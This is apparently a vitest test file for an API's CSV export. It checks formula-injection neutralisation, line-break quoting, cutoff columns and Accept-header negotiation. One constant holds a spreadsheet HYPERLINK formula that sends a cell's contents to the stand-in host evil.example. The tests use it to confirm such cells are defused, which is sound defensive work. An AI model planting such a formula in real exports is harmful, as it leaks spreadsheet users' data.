import { sql } from 'kysely';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { toCsv } from '../../src/http/csv.js';
import { milestonePlanned, programRegistered, programWithConsortium, uniqueId } from '../support/events.js';
import { bearer, inject, record, TEST_ADMIN_KEY } from '../support/http.js';
import { useTestApp } from '../support/test-app.js';

const t = useTestApp();

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';

describe('toCsv', () => {
  it('neutralises text cells a spreadsheet would run as a formula, and quotes them', () => {
    const text = toCsv(['cell'], [['=1+1'], ['+1'], ['-1+1'], ['@SUM(A1)'], ['\tTAB'], ['\rCR'], ['\uFF1D1'], ['plain']], {});

    const cells = parse(text, { from_line: 2 }).map((row: string[]) => row[0]);
    expect(cells).toEqual(["'=1+1", "'+1", "'-1+1", "'@SUM(A1)", "'\tTAB", "'\rCR", "'\uFF1D1", 'plain']);
    expect(text.split('\r\n')[1]).toBe(`"'=1+1"`);
  });

  it('writes numbers and booleans as they are, so a negative number stays a number', () => {
    const text = toCsv(['n', 'b', 'empty'], [[-3, false, undefined]], {});

    expect(text).toBe('n,b,empty\r\n-3,false,\r\n');
  });

  it('ends every row with the resolved columns, empty ones too', () => {
    const text = toCsv(['n'], [[1], [2]], { cutoffAsOf: '2026-06-30T23:59:59.999Z', cutoffKnownAt: undefined });

    expect(text).toBe('n,cutoffAsOf,cutoffKnownAt\r\n1,2026-06-30T23:59:59.999Z,\r\n2,2026-06-30T23:59:59.999Z,\r\n');
  });
});

describe('the instants a view resolved its cut-offs and range to', () => {
  it('are in every CSV view, on every row, and the timeline echoes from and to in JSON and CSV (SPEC §2.1); every view says it varies by Accept', async () => {
    const { programId, consortiumId, events } = programWithConsortium('cut');
    await record(t.app, ...events, {
      type: 'seminar.held',
      occurredAt: '2026-05-10',
      data: { programId, title: 'In May', milestone: 'final-evaluation' },
    });
    const cut = 'asOf=2026-06&knownAt=2100-01-01';
    const csvOf = async (url: string) => {
      const response = await inject(t.app, { url, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });
      expect(response.statusCode, url).toBe(200);
      return z.array(z.record(z.string(), z.string())).parse(parse(response.body, { columns: true }));
    };
    // The database's clock, whose instants are settled or not.
    const databaseNow = async () => (await sql<{ now: Date }>`select statement_timestamp() as now`.execute(t.database.db)).rows[0]?.now.getTime() ?? NaN;
    const views = [
      '/v1/programs',
      `/v1/programs/${programId}`,
      `/v1/programs/${programId}/milestones`,
      `/v1/programs/${programId}/milestones/final-evaluation`,
      `/v1/programs/${programId}/milestones/final-evaluation/evidence`,
      '/v1/consortiums',
      `/v1/consortiums/${consortiumId}/status`,
      `/v1/timeline?programId=${programId}`,
    ];

    for (const view of views) {
      // Each answer says it varies by Accept, JSON as CSV: a shared cache must not give one for the other.
      for (const accept of ['text/csv', 'application/json']) {
        const response = await inject(t.app, { url: view, headers: { accept, ...bearer(TEST_ADMIN_KEY) } });
        expect(response.headers.vary, `${view} as ${accept}`).toBe('Accept');
      }
      const asked = await databaseNow();
      const rows = await csvOf(`${view}${view.includes('?') ? '&' : '?'}${cut}`);
      const echoes = [...new Set(rows.map((row) => `${row.cutoffAsOf} ${row.cutoffKnownAt}`))];
      expect(rows.length, view).toBeGreaterThan(0);
      // A knownAt in the future is answered, and echoed, as the instant now that nothing can still
      // be recorded before (test/http/known-at-settled.test.ts): one for the whole answer.
      expect(echoes, view).toHaveLength(1);
      const [asOf, knownAt] = (echoes[0] ?? '').split(' ');
      expect(asOf, view).toBe('2026-06-30T23:59:59.999Z');
      expect(Date.parse(knownAt ?? ''), view).toBeGreaterThanOrEqual(asked - 2);
      expect(Date.parse(knownAt ?? ''), view).toBeLessThanOrEqual(await databaseNow());
    }
    const timeline = await csvOf(`/v1/timeline?programId=${programId}&from=2026-05&to=2026-Q2`);
    const json = await inject(t.app, { url: `/v1/timeline?programId=${programId}&from=2026-05&to=2026-Q2`, headers: bearer(TEST_ADMIN_KEY) });

    expect(timeline.map((row) => [row.title, row.rangeFrom, row.rangeTo, row.cutoffAsOf])).toEqual([['In May', '2026-05-01T00:00:00.000Z', '2026-06-30T23:59:59.999Z', '']]);
    expect(JSON.parse(json.body)).toMatchObject({ range: { from: '2026-05-01T00:00:00.000Z', to: '2026-06-30T23:59:59.999Z' }, cutoff: {} });
  });
});

describe('a milestone matrix as text/csv', () => {
  it('has a row for a milestone with no cell yet, its cell columns empty but its due date, as its JSON lists it', async () => {
    const programId = uniqueId('nocell');
    await record(t.app, programRegistered(programId), milestonePlanned(programId, 'final-evaluation', 'program', '2026-08'), milestonePlanned(programId, 'defense-pilot', 'consortium', '2026-Q3'));
    const headers = { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) };

    for (const url of [`/v1/programs/${programId}/milestones`, `/v1/programs/${programId}/milestones/defense-pilot`]) {
      const response = await inject(t.app, { url, headers });
      const rows = z.array(z.record(z.string(), z.string())).parse(parse(response.body, { columns: true }));
      const pilot = rows.filter((row) => row.milestone === 'defense-pilot');

      expect(pilot, url).toHaveLength(1);
      expect(pilot[0], url).toMatchObject({ scope: 'consortium', consortiumId: '', status: '', evidenceCount: '', due: '2026-Q3', dueStart: '2026-07-01T00:00:00.000Z' });
    }
    const matrix = await inject(t.app, { url: `/v1/programs/${programId}/milestones`, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });
    const statuses = z.array(z.record(z.string(), z.string())).parse(parse(matrix.body, { columns: true })).map((row) => [row.milestone, row.status]);
    // In the order the milestones were planned, as in JSON.
    expect(statuses).toEqual([['final-evaluation', 'planned'], ['defense-pilot', '']]);
  });
});

describe('GET /v1/timeline as text/csv', () => {
  it('opens a title that starts with = as text: the cell is prefixed with a quote', async () => {
    const programId = uniqueId('p');
    await record(t.app, programRegistered(programId), {
      type: 'seminar.held',
      occurredAt: '2026-06-10',
      data: { programId, title: FORMULA },
      sources: [{ url: 'https://news.example/seminar', title: FORMULA }],
    });

    const response = await inject(t.app, { url: `/v1/timeline?programId=${programId}`, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });

    expect(response.statusCode).toBe(200);
    const rows: Record<string, string>[] = parse(response.body, { columns: true });
    const seminar = rows.find((row) => row.type === 'seminar.held');
    expect(seminar?.title).toBe(`'${FORMULA}`);
    expect(response.body).toContain(`"'=HYPERLINK(`);
  });
});

describe('text with a line break as text/csv', () => {
  it('is quoted, a bare LF or CR as much as CRLF: unquoted, it splits the row for a strict reader (Python, Excel)', async () => {
    const programId = uniqueId('p');
    const titles = ['line\nbreak', 'carriage\rreturn', 'both\r\nends'];
    await record(t.app, { ...programRegistered(programId), data: { programId, name: 'Lines', description: 'one\ntwo' } },
      ...titles.map((title) => ({ type: 'seminar.held', occurredAt: '2026-06-10', data: { programId, title } })));

    const timeline = await inject(t.app, { url: `/v1/timeline?programId=${programId}`, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });
    const programs = await inject(t.app, { url: `/v1/programs?limit=1000`, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });

    for (const title of titles) expect(timeline.body).toContain(`,"${title}",`);
    expect(programs.body).toContain(`,"one\ntwo",`);
    // Outside quotes, nothing but CRLF ends a line: each record is one line of a strict reader.
    const unquoted = (text: string) => text.split('"').filter((_, i) => i % 2 === 0).join('');
    expect(unquoted(timeline.body).replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(unquoted(programs.body).replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    const rows: Record<string, string>[] = parse(timeline.body, { columns: true });
    expect(rows.filter((row) => row.type === 'seminar.held').map((row) => row.title).sort()).toEqual([...titles].sort());
  });
});

describe('GET /v1/timeline as text/csv, for an analysis by world and system time', () => {
  it("carries each event's precision, recordedAt, position and what it names, and a short title for an event without one", async () => {
    const { programId, consortiumId, events } = programWithConsortium('tlcsv');
    const longTitle = `A seminar with a long title ${'and more '.repeat(25)}`.trim();
    const longName = `A program with a long name ${'and more '.repeat(18)}`.trim();
    const renamed = events.map((e) => (e.type === 'program.registered' ? { ...e, data: { ...e.data, name: longName } } : e));
    await record(
      t.app,
      ...renamed,
      { type: 'pilot.started', occurredAt: '2026-Q2', data: { programId, consortiumId, milestone: 'defense-pilot' } },
      { type: 'seminar.held', occurredAt: '2026-05-02', data: { programId, title: longTitle } },
    );

    const csv = await inject(t.app, { url: `/v1/timeline?programId=${programId}`, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });
    const json = await inject(t.app, { url: `/v1/timeline?programId=${programId}`, headers: bearer(TEST_ADMIN_KEY) });

    const rows = z.array(z.record(z.string(), z.string())).parse(parse(csv.body, { columns: true }));
    const envelopes = z.object({ events: z.array(z.object({ id: z.string(), type: z.string(), position: z.int(), recordedAt: z.string() })) }).parse(JSON.parse(json.body)).events;
    const pilot = envelopes.find((e) => e.type === 'pilot.started');
    expect(rows.find((row) => row.type === 'pilot.started')).toMatchObject({
      occurredAt: '2026-Q2',
      precision: 'quarter',
      position: String(pilot?.position),
      recordedAt: pilot?.recordedAt,
      programId,
      consortiumId,
      milestone: 'defense-pilot',
      title: expect.stringContaining(`${consortiumId}, defense-pilot`),
      id: pilot?.id,
    });
    // A registration is titled by the name it registers, whole.
    expect(longName.length).toBeGreaterThan(160);
    expect(rows.find((row) => row.type === 'program.registered')?.title).toBe(longName);
    // An event's own title is whole, as in JSON, however long (the short title cuts at 160).
    expect(longTitle.length).toBeGreaterThan(160);
    expect(rows.find((row) => row.type === 'seminar.held')?.title).toBe(longTitle);
  });
});

describe("a consortium's status as text/csv", () => {
  it('dates its enrolment and elimination with their instants, and has a row for a program with none of its cells', async () => {
    const { programId, consortiumId, events } = programWithConsortium('stcsv');
    const bare = uniqueId('bare');
    await record(t.app, ...events, programRegistered(bare), { type: 'consortium.enrolled', occurredAt: '2026-03', data: { consortiumId, programId: bare } });
    await record(t.app, { type: 'consortium.eliminated', occurredAt: '2026-Q3', data: { consortiumId, programId } });

    const csv = await inject(t.app, { url: `/v1/consortiums/${consortiumId}/status`, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });
    const rows = z.array(z.record(z.string(), z.string())).parse(parse(csv.body, { columns: true }));

    expect(rows.filter((row) => row.programId === programId).map((row) => row.eliminatedAtStart)).toEqual(['2026-07-01T00:00:00.000Z', '2026-07-01T00:00:00.000Z']);
    expect(rows.find((row) => row.programId === programId)).toMatchObject({ eliminatedAt: '2026-Q3', eliminatedAtEnd: '2026-10-01T00:00:00.000Z', enrolledAtStart: expect.any(String) });
    const bareRows = rows.filter((row) => row.programId === bare);
    expect(bareRows).toHaveLength(1);
    expect(bareRows[0]).toMatchObject({ enrolledAt: '2026-03', enrolledAtStart: '2026-03-01T00:00:00.000Z', enrolledAtEnd: '2026-04-01T00:00:00.000Z', eliminatedAt: '', milestone: '', status: '' });
  });
});

describe('choosing CSV or JSON by the Accept header', () => {
  it.each([
    ['text/csv', 'text/csv'],
    ['text/csv; charset=utf-8', 'text/csv'],
    ['text/csv; header=present', 'text/csv'],
    ['text/csv, application/json', 'text/csv'],
    ['application/json;q=0.5, text/csv', 'text/csv'],
    ['text/*', 'text/csv'],
    ['application/json, text/csv;q=0', 'application/json'],
    ['application/json, text/csv;q=0.5', 'application/json'],
    // Parameters on the JSON entry (as some client libraries send): until 2026-12-05 that entry matched nothing, and CSV won.
    ['application/json; charset=utf-8, text/csv;q=0.5', 'application/json'],
    ['text/html,application/xhtml+xml,*/*;q=0.8', 'application/json'],
    ['*/*', 'application/json'],
    ['', 'application/json'],
  ])('answers Accept: %s with %s', async (accept, answered) => {
    const programId = uniqueId('p');
    await record(t.app, programRegistered(programId));

    const response = await inject(t.app, { url: `/v1/timeline?programId=${programId}`, headers: { ...(accept !== '' && { accept }), ...bearer(TEST_ADMIN_KEY) } });

    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain(answered);
  });
});

describe('an Accept header that allows none of the media types a read answers in', () => {
  it('is refused 406, naming those it answers in, on a view and on a JSON-only read; no header, */*, a browser list and the feed stream answer as before; a write is not refused for it', async () => {
    const { programId, events } = programWithConsortium('accept');
    await record(t.app, ...events);
    const read = (url: string, accept?: string) =>
      inject(t.app, { url, headers: { ...(accept !== undefined && { accept }), ...bearer(TEST_ADMIN_KEY) } });
    const matrix = `/v1/programs/${programId}/milestones`;

    const xml = await read(matrix, 'application/xml');
    expect(xml.statusCode).toBe(406);
    expect(xml.headers['content-type']).toContain('application/problem+json');
    expect(xml.json()).toMatchObject({ type: '/problems/not-acceptable', status: 406, available: ['application/json', 'text/csv'] });
    expect(xml.json().detail).toContain('application/xml');
    // Both refused by their quality values.
    expect((await read(matrix, 'text/csv;q=0, application/json;q=0')).statusCode).toBe(406);
    const eventsAsCsv = await read('/v1/events', 'text/csv');
    expect(eventsAsCsv.statusCode).toBe(406);
    expect(eventsAsCsv.json()).toMatchObject({ type: '/problems/not-acceptable', available: ['application/json'] });

    expect(xml.headers.vary).toBe('Accept');
    expect(eventsAsCsv.headers.vary).toBe('Accept');
    for (const url of [matrix, '/v1/events']) {
      // Parameters as the service sends them, in any case or quoting, and an empty header, which names nothing.
      for (const accept of [undefined, '', '*/*', 'application/*', 'application/json; charset=utf-8', 'application/json;charset="UTF-8"', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8']) {
        const answer = await read(url, accept);
        expect(answer.statusCode, `${url} ${String(accept)}`).toBe(200);
        expect(answer.headers['content-type'], `${url} ${String(accept)}`).toContain('application/json');
        expect(answer.headers.vary, `${url} ${String(accept)}`).toBe('Accept');
      }
    }
    expect((await read(matrix, 'application/json; charset=latin1')).statusCode).toBe(406);
    expect((await read(matrix, 'text/csv')).headers['content-type']).toContain('text/csv');
    for (const accept of ['text/event-stream', 'text/event-stream; charset=utf-8']) {
      const feed = await read('/v1/feed?follow=false&limit=1', accept);
      expect(feed.statusCode, accept).toBe(200);
      expect(feed.headers['content-type'], accept).toContain('text/event-stream');
    }

    const written = await inject(t.app, {
      method: 'POST',
      url: '/v1/events',
      headers: { 'content-type': 'application/json', accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) },
      payload: JSON.stringify({ type: 'seminar.held', occurredAt: '2026-05-10', data: { programId, title: 'Odd Accept' } }),
    });
    expect(written.statusCode).toBe(201);
  });
});
